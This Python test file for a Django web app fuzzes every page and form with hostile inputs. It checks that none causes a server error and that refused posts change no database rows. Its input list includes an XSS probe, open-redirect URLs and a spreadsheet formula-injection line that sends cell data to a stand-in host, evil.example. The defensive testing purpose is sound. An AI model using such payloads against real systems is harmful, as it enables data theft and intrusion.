"""Property-based: every page that takes a query string and every form of every POST endpoint, as a user who
may use it, receives hostile values (control, direction and NUL characters, huge strings, huge and negative
numbers, odd dates, garbage ids, unknown keys). The answer is never a server error, and a refused post
(anything but a redirect after saving) leaves every row of the database as it was.

The routes are those of tests/test_url_walk.py, with its objects and its table of who may use what. Each
example runs in a savepoint rolled back afterwards. The number of examples is the `hostile` profile's
(tests/conftest.py); `--hypothesis-profile=thorough` runs many more. The closing summary counts them.
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
from django.db import connection, transaction
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from tests import test_url_walk
from tests.conftest import once
from tests.test_url_walk import EXPECTED, POST_DATA, URL_ARGS, URLS

cast = test_url_walk.cast  # the URL walk's fixture: its ward, its cast and the objects it builds

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("after_this_months_meeting")]

EXAMPLES = {"get": 0, "post": 0}

RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"
NASTY = [
    "\x00",
    "a\x00b",
    "\x01",
    "x\x0b\x1f\x7f\x85y",
    f"{RLO}gnp.exe",
    f"{LRI}abc{PDI}",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1-1",
    "@SUM(A1)",
    "9" * 5000,
    "9" * 19,
    "99999999999-1",
    "-1",
    "-99999999999999999999",
    "0",
    "1e309",
    "NaN",
    "0001-01-01",
    "9999-12-31",
    "2026-02-30",
    "0001-01",
    "9999-12",
    "2026-W99",
    "x" * 20000,
    "",
    " ",
    "<script>alert(1)</script>",
    "//evil.example/",
    "https://evil.example/",
    "١٢٣",
    "２０２６-01",
    "null",
]
HOSTILE = st.one_of(
    st.sampled_from(NASTY),
    st.text(st.characters(exclude_categories=("Cs",)), max_size=30),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.dates().map(lambda day: day.isoformat()),
)
# query parameters the views read, whatever the page's own filter form shows
PARAMS = [
    "q",
    "page",
    "month",
    "period",
    "year",
    "kind",
    "review",
    "meeting",
    "committee",
    "cell",
    "status",
    "next",
    "cell_search",
    "owner",
    "timeliness",
    "group",
    "repeat",
    "recipient",
    "read",
]
# keys a tampered post may add: ids no page offered, and the hidden ones some views read themselves
EXTRA_KEYS = [
    "version",
    "next",
    "review",
    "cells",
    "token",
    "committee",
    "action",
    "confirmed",
    f"att_{'9' * 30}",
    f"reason_{'9' * 19}",
    f"done_{'9' * 19}",
    f"cell_{'9' * 19}",
    "finalise",
]

ROLE_ORDER = (
    "secretary",
    "leader",
    "inspector",
    "overseer",
    "staff",
    "member",
    "other_secretary",
    "stranger",
)
SKIP = {"logout"}  # nothing to post, and it ends the session


def user_role(name: str) -> str | None:
    """The first role of the cast that may use the page (200 or a redirect), anonymous for the login page."""
    if name == "login":
        return "anonymous"
    return next((role for role in ROLE_ORDER if EXPECTED[name][role] in (200, 302)), None)


class FormFields(HTMLParser):
    """The fields of the page's forms as the browser would post them: (method, name) → value."""

    def __init__(self) -> None:
        super().__init__()
        self.fields: dict[tuple[str, str], str] = {}
        self.method = "get"
        self._textarea: str | None = None
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        name = a.get("name", "")
        if tag == "form":
            self.method = a.get("method", "get").lower()
        elif tag == "input" and name and name != "csrfmiddlewaretoken":
            if a.get("type") in ("radio", "checkbox") and "checked" not in a:
                self.fields.setdefault((self.method, name), "")
            else:
                self.fields[(self.method, name)] = a.get("value", "")
        elif tag == "textarea" and name:
            self._textarea = name
            self.fields[(self.method, name)] = ""
        elif tag == "select" and name:
            self._select = name
            self.fields.setdefault((self.method, name), "")
        elif (
            tag == "option"
            and self._select
            and ("selected" in a or not self.fields[(self.method, self._select)])
        ):
            self.fields[(self.method, self._select)] = a.get("value", "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None

    def handle_data(self, data: str) -> None:
        if self._textarea:
            self.fields[(self.method, self._textarea)] += data


def rows_written() -> int:
    """Rows the test's transaction has inserted, updated or deleted so far in the tables of the two apps
    (history included), savepoints rolled back counted too: PostgreSQL's own per-transaction statistics."""
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT coalesce(sum(n_tup_ins + n_tup_upd + n_tup_del), 0) FROM pg_stat_xact_user_tables"
            " WHERE relname LIKE 'cells\\_%' OR relname LIKE 'reviews\\_%'"
        )
        return int(cursor.fetchone()[0])


def _client(role: str, cast: Any) -> Client:
    client = Client()
    if role != "anonymous":
        client.force_login(cast.users[role])
    return client


def _page(name: str, cast: Any) -> tuple[str, str, dict[tuple[str, str], str]]:
    role = user_role(name)
    if role is None:
        pytest.skip("no role of the cast may use it")
    url = reverse(name, kwargs=URL_ARGS[name](cast) if name in URL_ARGS else None)
    parser = FormFields()
    if name not in POST_DATA:
        response = _client(role, cast).get(url)
        if response.status_code == 200 and response.get("Content-Type", "").startswith("text/html"):
            parser.feed(response.content.decode())
    return role, url, parser.fields


NAMES = [name for name, _route in URLS if name in EXPECTED and name not in SKIP]


@pytest.mark.parametrize("name", NAMES)
def test_no_hostile_value_breaks_a_page_and_a_refused_post_changes_nothing(name, cast):
    role, url, fields = _page(name, cast)
    client = _client(role, cast)

    @given(
        params=st.dictionaries(
            st.sampled_from(sorted({*PARAMS, *(f for m, f in fields if m == "get")})),
            HOSTILE,
            min_size=1,
            max_size=3,
        )
    )
    def get(params: dict[str, str]) -> None:
        EXAMPLES["get"] += 1
        with transaction.atomic():
            response = client.get(url, params)
            transaction.set_rollback(True)
        assert response.status_code < 500, f"GET {url} {params!r}: {response.status_code}"

    base = {field: value for (method, field), value in fields.items() if method == "post"}
    if name in POST_DATA:
        base = {key: str(value) for key, value in POST_DATA[name](cast).items()}
    if base:
        base = once(base)  # a create form's one-time token (each example is rolled back, token and all)

    @given(
        changes=st.dictionaries(
            st.sampled_from(sorted({*base, *EXTRA_KEYS})), HOSTILE, min_size=1, max_size=4
        )
    )
    def post(changes: dict[str, str]) -> None:
        EXAMPLES["post"] += 1
        with transaction.atomic():
            before = rows_written()
            response = client.post(url, {**base, **changes})
            written = rows_written() - before
            transaction.set_rollback(True)
        assert response.status_code < 500, f"POST {url} {changes!r}: {response.status_code}"
        if response.status_code != 302:  # refused: the form again, a 4xx or the out-of-date page
            assert not written, (
                f"POST {url} {changes!r} was refused ({response.status_code}) but wrote {written} rows"
            )

    if name not in POST_DATA:
        get()
    if base or name in POST_DATA:
        post()


def test_the_write_counter_sees_a_save_even_rolled_back(cast):
    person = cast.ward.members01[0]
    client = _client("secretary", cast)
    with transaction.atomic():
        before = rows_written()
        response = client.post(
            f"/members/{person.pk}/edit/",
            {"phone": "0912345678", "email": "", "exempt_since": "", "version": person.version},
        )
        written = rows_written() - before
        transaction.set_rollback(True)
    assert response.status_code == 302
    assert written >= 2  # the member and its history event
